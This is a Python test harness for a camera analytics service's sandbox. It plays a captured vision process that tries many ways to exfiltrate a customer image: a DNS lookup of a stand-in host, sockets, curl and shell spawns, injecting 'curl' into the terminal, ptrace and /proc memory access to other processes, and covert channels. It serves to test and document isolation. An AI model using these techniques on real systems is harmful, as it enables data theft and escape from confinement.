"""
A vision process that a picture has captured: the real one, but what looks at the first frame tries to get out.

Everything else is as in a shop: config, model, clip, diode, readiness helper, seal. It tries each way of `WAYS` and
says through a pipe of the test's own, in JSON, what became of it. tests/sealed/test_hostile.py starts it and looks from
outside whether anything arrived.

`python tests/sealed/hostile.py` prints the table in docs/privacy.md.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import json
import mmap
import os
import resource
import secrets
import signal
import socket
import struct
import subprocess
import sys
import termios
import time
from collections.abc import Callable, Collection, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

from edge.config import schema
from edge.core.clock import KernelClock
from edge.core.tally import SIZE, Tally, encode, line_key
from edge.sandbox import seccomp
from edge.sandbox.readiness import Readiness
from edge.vision.seal import Report, Seal

if TYPE_CHECKING:
    from edge.vision.pipeline import Pipeline
    from edge.vision.scene import Crossing, Frame

MARK = b"\xfePICTURE-OF-A-CUSTOMER\xfd"
"""Stands at the beginning of the picture that it tries to get out, so that it is known again where it arrives."""

_libc = ctypes.CDLL(None, use_errno=True)
_CLONE_NEWNET, _CLONE_NEWUSER = 0x40000000, 0x10000000
_PR_SET_NAME, _PR_SET_DUMPABLE = 15, 4


@dataclass(frozen=True, slots=True)
class World:
    """
    What the captured process knows of its surroundings, which is more than a real one would.

    Attributes:
        tcp, udp: Ports on loopback where somebody listens.
        abstract: Name of an abstract socket of somebody who listens.
        path: Path of a socket of somebody who listens.
        victim: Another process of the same user, which has a network.
        file: A file that this user may change, and did before.
        folders: Folders in which this user may write, and did before.
        diode: Descriptor of its diode.
        readiness: Descriptor of the pipe to its readiness helper.
        helper: That helper's process.
    """

    tcp: int
    udp: int
    abstract: str
    path: str
    victim: int
    file: str
    folders: Sequence[str]
    diode: int
    readiness: int
    helper: int
    picture: bytes


@dataclass(frozen=True, slots=True)
class Way:
    """
    One way out.

    Attributes:
        name: What it is called in the table.
        attempts: What is tried; each raises OSError if it is refused.
        bound: What keeps it small, if it isn't stopped.
    """

    name: str
    tried: str
    attempts: Sequence[Callable[[World], object]]
    bound: str = ""


def system_call(name: str, *arguments: int | bytes) -> int:
    """Make a system call; raises OSError."""
    number = seccomp.number(name)
    words = [ctypes.c_char_p(a) if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments]
    result = int(_libc.syscall(ctypes.c_long(number), *words)) if number >= 0 else -1
    if result < 0:
        code = ctypes.get_errno() if number >= 0 else errno.ENOSYS
        raise OSError(code, os.strerror(code))
    return result


def send_to(family: int, kind: int, address: Callable[[World], Any]) -> Callable[[World], object]:
    """Return an attempt to send the picture from a new socket."""

    def attempt(world: World) -> None:
        with socket.socket(family, kind) as end:
            end.connect(address(world))
            end.send(world.picture[:60_000])

    return attempt


def open_and_write(path: Callable[[World], str], flags: int) -> Callable[[World], object]:
    """Return an attempt to write the picture to a path."""

    def attempt(world: World) -> None:
        descriptor = os.open(path(world), flags, 0o666)
        if os.write(descriptor, world.picture) < len(world.picture):
            raise OSError(errno.EFBIG, "not written whole")

    return attempt


def pass_a_descriptor(world: World) -> None:
    """SCM_RIGHTS: hand the camera's pipe to somebody else."""
    system_call("sendmsg", world.readiness, world.picture[:56], 0)


def change_by_memory(world: World) -> None:
    """Map a file that was there before, and write through the mapping."""
    descriptor = os.open(world.file, os.O_RDWR)
    with mmap.mmap(descriptor, 0, mmap.MAP_SHARED) as view:
        view[: len(MARK)] = MARK


def make_folders(world: World) -> None:
    """Write the picture in the names of folders."""
    for at in range(0, 1000, 100):
        Path(world.folders[0], world.picture[at : at + 100].hex()).mkdir()


def memory_file(world: World) -> None:
    """Write a program to a file without a name, and run it."""
    descriptor = os.memfd_create("picture")
    os.write(descriptor, world.picture)
    os.execve(descriptor, ["picture"], {})  # noqa: S606 - hostile


def fork_and_outlive(world: World) -> None:
    """Leave a child that isn't sealed, or is watched less."""
    if os.fork() == 0:
        Path(world.file).write_bytes(world.picture)
        os._exit(0)


def poke(world: World) -> None:
    """Write into the memory of the process that has a network."""
    with Path(f"/proc/{world.victim}/mem").open("r+b", buffering=0) as memory:
        memory.write(world.picture)


def peek(world: World) -> None:
    """Look for the broker's password in its memory."""
    with Path(f"/proc/{world.victim}/mem").open("rb", buffering=0) as memory:
        memory.read(1)


def borrow_its_network(world: World) -> None:
    """Take a descriptor from the process that has a network."""
    system_call("pidfd_getfd", system_call("pidfd_open", world.victim, 0), 0, 0)


def lock_as_a_bit(world: World) -> None:
    """Tell one bit to whoever looks at the same file's locks."""
    with Path(world.file).open("rb") as file:
        fcntl.flock(file, fcntl.LOCK_SH)


def lock_a_range_as_a_bit(world: World) -> None:
    """Likewise, with the other kind of lock."""
    with Path(world.file).open("rb") as file:
        fcntl.lockf(file, fcntl.LOCK_SH, 10, 20)


def type_into_the_shell(world: World) -> None:
    """Put a command into the input of the terminal that this was started from."""
    for letter in b"curl":
        fcntl.ioctl(0, termios.TIOCSTI, bytes([letter]))
    assert world  # it has no need of it


def signal_through_the_kernel(world: World) -> None:
    """Have the kernel signal another process whenever the diode is read."""
    fcntl.fcntl(world.diode, fcntl.F_SETOWN, world.victim)
    fcntl.fcntl(world.diode, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)


def rename_itself(world: World) -> None:
    """Show 15 bytes at a time to whoever lists processes."""
    system_call("prctl", _PR_SET_NAME, world.picture[:15])


def dump_core(_: World) -> None:
    """Allow a core dump of all memory."""
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))


def unseal(_: World) -> None:
    """Load a filter that allows everything, or make the process visible again."""
    system_call("seccomp", 1, 0, 0)


def overwrite_arguments(world: World) -> None:
    """Write the picture over its own command line, which others on the box may read."""
    area = Path("/proc/self/stat").read_text(encoding="ascii").rpartition(")")[2].split()
    start, end = int(area[45]), int(area[46])
    ctypes.memmove(start, world.picture, min(end - start - 1, len(world.picture)))


def write_to_the_log(world: World) -> None:
    """Write the picture to standard output and error, as text."""
    for descriptor in (1, 2):
        os.write(descriptor, world.picture.hex().encode()[:4000] + b"\n")


def read_a_file(world: World) -> None:
    """Leave a trace of having looked at a file."""
    Path(world.file).read_bytes()


def be_busy(_: World) -> None:
    """Be felt by others on the same machine: take memory and processor time."""
    bytearray(50_000_000)
    until = time.monotonic() + 0.01
    while time.monotonic() < until:
        pass


def tell_systemd(world: World) -> None:
    """Spell the picture by which of the known sentences systemd is told, as often as the helper passes them on."""
    for byte in world.picture[:2000]:
        with contextlib.suppress(BlockingIOError):
            os.write(world.readiness, bytes([2 + byte % 12]))


def tell_the_journal(world: World) -> None:
    """Tell systemd a value that it can't parse, and so writes to the journal as text."""
    for field in (b"ERRNO=", b"MAINPID=", b"WATCHDOG_USEC=", b"EXTEND_TIMEOUT_USEC=", b"STATUS="):
        with contextlib.suppress(BrokenPipeError):
            os.write(world.readiness, field + world.picture.hex().encode()[:2000] + b"\n")
            time.sleep(0.05)


def shared_page(world: World) -> int:
    """Map a page of a file that another process may map, too; return its address."""
    _libc.mmap.restype = ctypes.c_void_p
    _libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
    address = _libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, os.open(world.file, os.O_RDONLY), 0)
    return int(address)


def wake_by_futex(world: World) -> None:
    """Wake another process that waits at a word of a file, and learn how many did."""
    system_call("futex", shared_page(world), 1, 1, 0, 0, 0)


def wait_by_futex(world: World) -> None:
    """Wait at a word of a file until another process wakes this one; the seal answers as if the word had changed."""
    address = shared_page(world)
    try:
        system_call("futex", address, 0, ctypes.c_uint32.from_address(address).value, 0, 0, 0)
    except OSError as exc:
        raise OSError(errno.EPERM if exc.errno == errno.EAGAIN else exc.errno, str(exc)) from exc


def look_at_many_futexes(world: World) -> None:
    """Wait at many words at once."""
    waiters = struct.pack("<QQII", 0, shared_page(world), 2, 0)
    system_call("futex_waitv", waiters, 1, 0, 0, 0)


def evict_pages(world: World) -> None:
    """Push a file's pages out of memory, so that another process's reading takes longer."""
    system_call("madvise", shared_page(world), 4096, 21)


def watch_a_file(world: World) -> None:
    """Be told whenever another process opens a file."""
    system_call("inotify_add_watch", system_call("inotify_init1", 0), world.file.encode(), 0x20)


def stop_the_helper(world: World) -> None:
    """Stop and continue the helper, which others on the box could see."""
    os.kill(world.helper, signal.SIGSTOP)


def raw_into_the_diode(world: World) -> None:
    """Push the picture down the diode as it is."""
    os.write(world.diode, world.picture[: SIZE * 64])


def lie_in_tallies(world: World) -> None:
    """Hide the picture in the numbers of tallies that are each possible, as many as the pipe takes."""
    clock, rest = KernelClock(), memoryview(world.picture)
    sequence = 0
    while len(rest) > 16:
        boot_ms = clock.boot_ms()
        lie = Tally(
            run=int.from_bytes(rest[:4]) or 1,
            sequence=sequence,
            line=line_key("entrance"),
            in_=rest[4] % 40,
            out=rest[5] % 40,
            frames=0,
            boot_ms=boot_ms,
            watched_ms=boot_ms // 2,
        )
        try:
            os.write(world.diode, encode(lie))
        except BlockingIOError:
            return
        rest, sequence = rest[6:], sequence + 1


def speak_in_pauses(world: World) -> None:
    """Send readings a little sooner or later."""
    for bit in world.picture[:2]:
        time.sleep(0.01 * (bit & 1))


def by(*names: str) -> list[Callable[[World], object]]:
    """Return attempts at system calls by their names."""
    return [lambda _, name=name: system_call(name, 0, 4096, 0o1600, 0, 0, 0) for name in names]  # type: ignore[misc]


def family(name: str) -> Callable[[World], object]:
    """Return an attempt to make a socket of a family, raw where that is asked."""
    return lambda _: socket.socket(getattr(socket, name), socket.SOCK_RAW if name == "AF_PACKET" else socket.SOCK_DGRAM)


WAYS = [
    Way("DNS", "look up a name that spells the picture", [lambda _: socket.getaddrinfo("picture.example.com", 80)]),
    Way("TCP", "connect to a listener", [send_to(socket.AF_INET, socket.SOCK_STREAM, lambda w: ("127.0.0.1", w.tcp))]),
    Way("UDP", "send a datagram", [send_to(socket.AF_INET, socket.SOCK_DGRAM, lambda w: ("127.0.0.1", w.udp))]),
    Way("raw packets", "write to the wire, with root's rights if it has them", [family("AF_PACKET")]),
    Way("ping", "carry it in echo requests", [lambda _: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)]),
    Way(
        "sockets of rarer families",
        "netlink, vsock, the kernel's ciphers, Bluetooth",
        [family(name) for name in ("AF_NETLINK", "AF_VSOCK", "AF_ALG") if hasattr(socket, name)] + by("socketpair"),
    ),
    Way(
        "abstract sockets",
        "connect to one of another process",
        [send_to(socket.AF_UNIX, socket.SOCK_STREAM, lambda w: f"\0{w.abstract}")],
    ),
    Way(
        "sockets with a path",
        "connect to one of another process, such as D-Bus or the journal",
        [send_to(socket.AF_UNIX, socket.SOCK_STREAM, lambda w: w.path)],
    ),
    Way(
        "what it holds, to somebody else",
        "send it to an address, or connect it anew",
        [
            lambda w: system_call("sendto", w.readiness, w.picture[:99], 99, 0, b"\1\0/run/bus", 10),
            lambda w: system_call("connect", w.readiness, b"\1\0/run/bus", 10),
        ],
    ),
    Way(
        "the readiness helper",
        "stop it, take it over, read and write its memory, take its socket",
        [
            stop_the_helper,
            lambda w: system_call("ptrace", 16, w.helper, 0, 0),
            lambda w: os.open(f"/proc/{w.helper}/mem", os.O_RDWR),
            lambda w: os.open(f"/proc/{w.helper}/fd/{w.readiness}", os.O_WRONLY),
            lambda w: system_call("pidfd_getfd", system_call("pidfd_open", w.helper, 0), 0, 0),
        ],
    ),
    Way("SCM_RIGHTS", "pass a descriptor to another process", [pass_a_descriptor]),
    Way(
        "a new file",
        "in each folder where its user may write: /tmp, /var/tmp, its home, the working folder",
        [
            open_and_write(lambda w, at=at: f"{w.folders[at]}/picture", os.O_WRONLY | os.O_CREAT)  # type: ignore[misc]
            for at in range(3)
        ],
    ),
    Way("/dev/shm", "a file in shared memory", [open_and_write(lambda _: "/dev/shm/picture", os.O_RDWR | os.O_CREAT)]),  # noqa: S108
    Way(
        "a file that was there",
        "write to it, append, empty it, map it, change its time",
        [
            open_and_write(lambda w: w.file, os.O_WRONLY),
            open_and_write(lambda w: w.file, os.O_RDWR | os.O_APPEND),
            lambda w: os.truncate(w.file, 431_623),
            change_by_memory,
            lambda w: os.utime(w.file, (431_623, 0)),
        ],
    ),
    Way(
        "names instead of contents",
        "folders, links, pipes and attributes whose names are the picture",
        [
            make_folders,
            lambda w: Path(w.folders[0], "link").symlink_to(w.picture[:1000].hex()),
            lambda w: os.mkfifo(f"{w.folders[0]}/pipe"),
            lambda w: Path(w.file).rename(w.file + w.picture[:50].hex()),
            lambda w: os.setxattr(w.file, "user.picture", w.picture[:100]),
        ],
    ),
    Way("memfd and exec", "a program that never was a file", [memory_file]),
    Way(
        "another program",
        "curl, a shell, a pipe to one",
        [
            lambda _: subprocess.run(["curl", "http://127.0.0.1"], check=False),
            lambda _: os.posix_spawn("/bin/sh", ["sh", "-c", "true"], {}),
            lambda _: os.execv("/bin/sh", ["sh", "-c", "true"]),  # noqa: S606 - hostile
        ],
    ),
    Way("a child", "fork, and go on there", [fork_and_outlive, *by("vfork")]),
    Way(
        "ptrace",
        "take over the process that has a network",
        [
            lambda w: system_call("ptrace", 16, w.victim, 0, 0),
            lambda w: system_call("process_vm_writev", w.victim, 0, 0),
        ],
    ),
    Way("/proc of others", "write and read the memory of the process that has a network", [poke, peek]),
    Way("descriptors of others", "take one over with pidfd_getfd", [borrow_its_network]),
    Way(
        "signals",
        "tell bits to another process by signals",
        [
            lambda w: os.kill(w.victim, signal.SIGCONT),
            lambda w: system_call("rt_sigqueueinfo", w.victim, int(signal.SIGCONT), 0),
        ],
    ),
    Way("locks", "tell bits by locks on a file that others may read", [lock_as_a_bit, lock_a_range_as_a_bit]),
    Way(
        "shared memory and queues",
        "System V and POSIX",
        [
            *by("shmget", "semget", "msgget"),
            lambda _: system_call("mq_open", b"picture", os.O_CREAT | os.O_RDWR, 0o666, 0),
        ],
    ),
    Way("keyrings", "leave it as a key for another process", by("add_key", "keyctl", "request_key")),
    Way("io_uring", "ask the kernel to do it without system calls", by("io_uring_setup", "io_uring_enter", "io_setup")),
    Way(
        "namespaces and mounts",
        "a network, or a disk, of its own",
        [
            lambda _: system_call("unshare", _CLONE_NEWNET | _CLONE_NEWUSER),
            lambda _: system_call("mount", b"none", b"/mnt", b"tmpfs", 0, 0),
            lambda _: system_call("setns", 0, 0),
        ],
    ),
    Way("bpf, perf, userfaultfd", "look into the kernel and at others", by("bpf", "perf_event_open", "userfaultfd")),
    Way(
        "signals through the kernel",
        "have it signal another process whenever the diode is read",
        [signal_through_the_kernel, lambda w: fcntl.fcntl(w.diode, 10, int(signal.SIGCONT))],
    ),
    Way(
        "marks on what it holds",
        "the size of the diode's pipe, a lease, a hint on a file",
        [
            lambda w: fcntl.fcntl(w.diode, fcntl.F_SETPIPE_SZ, 65536),
            lambda w: fcntl.fcntl(os.open(w.file, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK),
            lambda w: fcntl.fcntl(os.open(w.file, os.O_RDONLY), 1036, struct.pack("Q", 2)),
        ],
    ),
    Way(
        "asking the diode",
        "how much of it the publisher has read: a captured publisher could answer by reading or not",
        [lambda w: fcntl.ioctl(w.diode, termios.FIONREAD, bytes(4))],
    ),
    Way(
        "watching files",
        "inotify and fanotify: see which file another process opens, and show which one this one does",
        [watch_a_file, lambda _: system_call("fanotify_init", 0, 0), lambda _: system_call("fanotify_mark", 0, 0, 0)],
    ),
    Way(
        "futexes on a file",
        "wait at a word of a file that another process maps, too, wake it, and count who waits",
        [wake_by_futex, wait_by_futex, look_at_many_futexes],
    ),
    Way(
        "a file's pages in memory",
        "push them out or fetch them, and ask which are there",
        [
            evict_pages,
            lambda w: system_call("readahead", os.open(w.file, os.O_RDONLY), 0, 4096),
            lambda w: system_call("mincore", shared_page(w), 4096, bytes(1)),
            lambda w: system_call("preadv2", os.open(w.file, os.O_RDONLY), 0, 0, 0, 0, 8),
            lambda w: system_call("cachestat", os.open(w.file, os.O_RDONLY), bytes(16), bytes(40), 0),
        ],
    ),
    Way("the machine's load", "ask the kernel for memory in use and processes", by("sysinfo")),
    Way(
        "other devices",
        "a terminal of the same user, a new terminal, the console, FUSE",
        [
            lambda _, name=name: os.open(name, os.O_RDWR | os.O_NOCTTY)  # type: ignore[misc]
            for name in ("/dev/tty", "/dev/ptmx", "/dev/console", "/dev/fuse", "/dev/full")
        ],
    ),
    Way(
        "a console's and a camera's switches",
        "VT_* of a console, S_CTRL of a camera, which have the same type of ioctl as what a camera needs",
        [
            lambda w, request=request: system_call("ioctl", w.diode, request, 0)  # type: ignore[misc]
            for request in (0x5600, 0x5606, 0x5607, 0x4B4D, 0xC008561C)
        ],
    ),
    Way(
        "its own entries in /proc",
        "its name, its score for the out-of-memory killer, its timers' slack",
        [
            open_and_write(lambda _, name=name: f"/proc/self/{name}", os.O_WRONLY)  # type: ignore[misc]
            for name in ("comm", "oom_score_adj", "timerslack_ns")
        ],
    ),
    Way(
        "priority and processors",
        "show a number in what others may ask about it",
        by("setpriority", "sched_setaffinity", "sched_setscheduler", "ioprio_set", "setpgid", "umask", "chdir"),
    ),
    Way("the terminal", "type a command into the shell that started it", [type_into_the_shell]),
    Way("its own name", "show it to whoever lists processes, 15 bytes at a time", [rename_itself]),
    Way("a core dump", "allow one, and crash", [dump_core, lambda _: system_call("prctl", _PR_SET_DUMPABLE, 1)]),
    Way("the seal itself", "load another filter", [unseal]),
    Way(
        "the log",
        "write it to standard output and error, as text",
        [write_to_the_log],
        "both lead to /dev/null: 0 bytes arrive. A sealed process has no log",
    ),
    Way(
        "the trace of reading",
        "look at a file, so that its time of last access tells a bit",
        [read_a_file],
        "a read-only file system notes no time of access",
    ),
    Way(
        "its command line",
        "write the picture over its arguments",
        [overwrite_arguments],
        "a few hundred bytes that others on the box may read, as whoever types `ps` or `systemctl status`, but not the "
        "publisher: /proc is closed to it",
    ),
    Way(
        "the status",
        "choose among the sentences that systemctl shows",
        [tell_systemd],
        "a helper knows a dozen sentences, and lets one change through each ten seconds, eight at once: 31,000 bits a "
        "day, of which systemd remembers the last; the publisher can't ask for it: /run/dbus is closed to it",
    ),
    Way(
        "the journal, through systemd",
        "tell systemd a value that it can't parse, which it writes down as text",
        [tell_the_journal],
        "the helper listens no more after the first byte that it doesn't know: 0 bytes arrive, and the watchdog ends "
        "both",
    ),
    Way(
        "being felt",
        "take memory and processor time",
        [be_busy],
        "a captured publisher could time its own work and guess, as any two programs on one machine can: measured, by "
        "load 54 bits a second, by the processor's cache 188,000. Not stopped; needs both",
    ),
    Way(
        "the diode, raw",
        "push the picture through as it is",
        [raw_into_the_diode],
        "the publisher closes the diode at the first record that can't be a tally: 0 bytes of it get on",
    ),
    Way(
        "the diode, in numbers",
        "hide it in tallies that are each possible",
        [lie_in_tallies],
        "two records each 10 seconds in the long run; tally.md has the sum, in bits a day, and what of it leaves",
    ),
    Way(
        "the diode, in pauses",
        "send readings sooner or later",
        [speak_in_pauses],
        "the publisher keeps a record's own time, not when it came, and headquarters sees hours",
    ),
]


def outcomes(world: World, only: Sequence[str]) -> dict[str, list[str]]:
    """Try every way, or some of them; return for each attempt `done`, or the error that refused it."""
    ways = [way for way in WAYS if not only or way.name in only]
    return {way.name: [_outcome(attempt, world) for attempt in way.attempts] for way in ways}


def _outcome(attempt: Callable[[World], object], world: World) -> str:
    try:
        attempt(world)
    except socket.gaierror:
        return "no answer"
    except (OSError, ValueError) as exc:
        # The resource module says ValueError where the kernel says EPERM.
        code = exc.errno if isinstance(exc, OSError) else errno.EPERM
        return errno.errorcode.get(code or 0, str(exc))
    return "done"


def table() -> str:
    """Return the table in docs/privacy.md."""
    lines = ["| way out | what is tried | what becomes of it |", "|---|---|---|"]
    lines += [f"| {way.name} | {way.tried} | {f'bounded: {way.bound}' if way.bound else 'stopped'} |" for way in WAYS]
    return "\n".join(lines)


def grow_old() -> None:
    """Make the kernel look like one without Landlock that grants no namespaces, as a container on a Pi."""
    library = seccomp.load_library()
    old = library.SyscallFilter(library.ALLOW)
    for name in ("landlock_create_ruleset", "landlock_add_rule", "landlock_restrict_self", "unshare"):
        old.add_rule(library.ERRNO(errno.ENOSYS), name)
    old.load()


def main() -> None:
    """Be the real vision process until the first frame; then try everything, say what became of it, and end."""
    surroundings: dict[str, Any] = json.loads(os.environ.pop("FOOTFALL_HOSTILE"))
    settings = schema.load(Path(surroundings.pop("config"))).vision("door")
    only, sealed, report = surroundings.pop("only"), surroundings.pop("sealed"), surroundings.pop("report")
    if surroundings.pop("old"):
        grow_old()
    readiness = Readiness()
    needed = [Path(surroundings["file"]).parent]
    seal = Reporting([], needed=needed, report=report) if sealed else None
    from edge.vision import process  # noqa: PLC0415 - after the seal is made, as in edge.__main__
    from edge.vision.pipeline import Pipeline  # noqa: PLC0415

    (pipe,) = readiness.descriptors

    def look(_: Pipeline, frame: Frame) -> Sequence[Crossing]:
        picture = MARK + frame.pixels.tobytes()[:60_000] + secrets.token_bytes(100)
        world = World(**surroundings, readiness=pipe, helper=os.getppid(), picture=picture)
        os.write(report, json.dumps(outcomes(world, only)).encode())
        os.kill(os.getpid(), signal.SIGTERM)
        return ()

    setattr(Pipeline, "look", look)  # noqa: B010 - captured
    process.run(lambda: settings, KernelClock(), readiness, seal, diode=surroundings["diode"])


class Reporting(Seal):
    """The seal, but for the pipe through which the test hears what became of the attempts."""

    def __init__(self, cameras: Sequence[Path], *, needed: Sequence[Path], report: int) -> None:
        super().__init__(cameras, needed=needed)
        self._report = report

    def close(self, held: Collection[int] = ()) -> Report:
        """Close the seal as the service does, with one pipe more."""
        return super().close((*held, self._report))


if __name__ == "__main__":
    if "FOOTFALL_HOSTILE" in os.environ:
        main()
    else:
        sys.stdout.write(table() + "\n")
